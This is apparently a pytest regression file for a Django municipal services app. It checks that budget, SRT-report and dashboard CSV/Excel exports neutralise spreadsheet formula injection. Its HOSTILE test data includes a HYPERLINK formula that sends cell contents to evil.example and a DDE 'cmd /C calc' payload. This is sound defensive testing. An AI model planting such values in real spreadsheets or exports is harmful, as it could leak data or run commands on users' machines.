"""Finding 6 of issue 14: no live formula in any CSV or Excel export of the product.

A revision ``source`` of ``=HYPERLINK(...)`` was a live formula in the budget's Excel export. Every export now
writes through ``almelo_sociaal.core.exports`` (``csv_writer``, ``append_row``); a test per export, and a
guard that no export module writes a CSV row or a worksheet row around the helper.
"""

from __future__ import annotations

import io
import re
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from almelo_sociaal.accounts.roles import Role
from almelo_sociaal.core.exports import FORMULA_STARTS, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")
ROOT = Path(__file__).resolve().parents[2]


def _text_cells(workbook):
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula(workbook):
    for cell in _text_cells(workbook):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)


def assert_csv_has_no_formula(body: str):
    import csv

    for row in csv.reader(io.StringIO(body), delimiter=";"):
        for value in row:
            if NUMBER.fullmatch(value):
                continue  # a negative number is data, not a formula
            assert not value.startswith(FORMULA_STARTS), value


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_quotes_what_a_spreadsheet_would_evaluate(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-9.63"), -3, None, date(2021, 1, 1), "Voorlopig", "", "a=b"])
def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value):
    assert safe_cell(value) == value


def test_budget_export_shows_a_formula_source_as_text(client, make_user, monkeypatch):
    from budget import services

    monkeypatch.setattr("budget.tasks.recompute_budget_year.delay", lambda year: None)
    finance = make_user(Role.FINANCE)
    services.record_revision(
        year=2020,
        kind="voorlopig",
        amount=Decimal("35516242"),
        published_on=date(2019, 10, 1),
        source=HOSTILE[0],
        note=HOSTILE[3],
        actor=finance,
        today=date(2021, 6, 1),
    )
    client.force_login(finance)
    workbook = load_workbook(io.BytesIO(client.get(reverse("budget:export", args=[2020])).content))
    assert_no_formula(workbook)
    (row,) = workbook["Bijstellingen"].iter_rows(min_row=2, values_only=True)
    assert row[4] == "'" + HOSTILE[0]
    assert row[2] == 35516242  # amounts stay numbers


@pytest.fixture
def hostile_srt_report(monkeypatch):
    """The SRT report is aggregates with fixed labels; a hostile label proves the export goes through the
    helper if a label ever becomes data."""
    from srt import exports

    real = exports.summary_rows

    def summary_rows(results):
        return [*real(results), *[(text, text) for text in HOSTILE], ("Saldo (EUR)", Decimal("-12.50"))]

    monkeypatch.setattr(exports, "summary_rows", summary_rows)


def test_srt_report_csv_has_no_formula(client, make_user, hostile_srt_report):
    client.force_login(make_user(Role.FINANCE))
    body = client.get(reverse("srt:report-csv"), {"van": "2020-01-01", "tot": "2020-12-31"}).content
    text = body.decode("utf-8-sig")
    assert_csv_has_no_formula(text)
    assert "Saldo (EUR);-12,50" in text, text[-600:]  # a negative amount stays a number


def test_srt_report_xlsx_has_no_formula(client, make_user, hostile_srt_report):
    client.force_login(make_user(Role.FINANCE))
    body = client.get(reverse("srt:report-xlsx"), {"van": "2020-01-01", "tot": "2020-12-31"}).content
    workbook = load_workbook(io.BytesIO(body))
    assert_no_formula(workbook)
    values = {row[0]: row[1] for row in workbook["Kengetallen"].iter_rows(values_only=True)}
    assert values["Saldo (EUR)"] == pytest.approx(-12.5)


@pytest.mark.parametrize("export", ["caseload", "groepen", "werkvoorraad", "tegenprestatie"])
def test_coordinator_dashboard_csv_has_no_formula(client, make_user, monkeypatch, export):
    from operations.dashboards import selectors

    month = date(2020, 1, 1)
    rows = {
        "trend": [
            {"date": month, "active": text, "target": 1, "instroom": 0, "uitstroom": 0} for text in HOSTILE
        ],
        "groups": [{"group": text, "n": -1} for text in HOSTILE],
        "work": [{"kind": text, "n": 2} for text in HOSTILE],
        "tegenprestatie": [
            {"month": month, "placements": text, "hours": Decimal("-1.5")} for text in HOSTILE
        ],
    }
    monkeypatch.setattr(selectors, "coordinator_dashboard", lambda flt: rows)
    client.force_login(make_user(Role.BEHEER))
    response = client.get(
        reverse("dashboards:coordinator"), {"wijkteam": "", "van": "2020-01", "tot": "2020-12", "csv": export}
    )
    assert response["Content-Type"].startswith("text/csv")
    assert_csv_has_no_formula(response.content.decode("utf-8-sig"))


WRITERS = re.compile(r"csv\.writer\(|\b(?:ws|wb|sheet|matrix|worksheet)\w*\.append\(")


def test_every_export_writes_through_the_helper():
    """No module of the product writes a CSV row or a worksheet row around ``core.exports``."""
    offenders = []
    tracked = subprocess.run(
        ["git", "ls-files", "-co", "--exclude-standard", "*.py"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    for relative in tracked:  # the project's own files, never an installed virtualenv
        path = ROOT / relative
        if relative.startswith((".venv/", "tests/")) or relative == "almelo_sociaal/core/exports.py":
            continue
        if "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        if ("import csv" in text and "csv.writer" in text) or "openpyxl" in text:
            offenders += [f"{relative}: {m.group(0)}" for m in WRITERS.finditer(text)]
    assert not offenders, "write export rows with almelo_sociaal.core.exports:\n" + "\n".join(offenders)
